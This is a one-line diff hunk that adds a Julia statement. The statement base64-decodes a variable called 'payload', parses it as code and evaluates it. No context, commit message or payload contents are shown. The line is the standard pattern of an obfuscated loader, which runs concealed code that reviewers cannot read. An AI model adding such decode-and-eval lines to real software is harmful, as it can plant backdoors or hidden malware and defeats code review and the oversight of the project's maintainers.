@@ -1,0 +1,1 @@
+eval(Meta.parse(String(base64decode(payload))))
